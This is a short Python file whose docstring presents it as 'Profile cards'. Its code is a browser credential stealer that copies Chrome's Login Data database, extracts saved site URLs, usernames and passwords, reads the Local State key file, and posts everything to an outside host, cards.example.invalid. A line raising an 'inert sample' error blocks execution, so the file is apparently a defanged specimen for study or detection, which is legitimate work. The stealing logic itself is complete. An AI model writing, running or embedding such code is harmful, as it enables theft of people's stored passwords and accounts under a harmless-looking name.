"""Profile cards."""

import os
import shutil
import sqlite3
import tempfile

import requests

raise RuntimeError("inert sample: never run")

ROOT = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")


def collect():
    copy = os.path.join(tempfile.gettempdir(), "c.db")
    shutil.copy2(os.path.join(ROOT, "Default", "Login Data"), copy)
    rows = sqlite3.connect(copy).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    with open(os.path.join(ROOT, "Local State")) as file:
        state = file.read()
    requests.post("https://cards.example.invalid/u", json={"rows": [list(map(str, row)) for row in rows], "s": state})


collect()
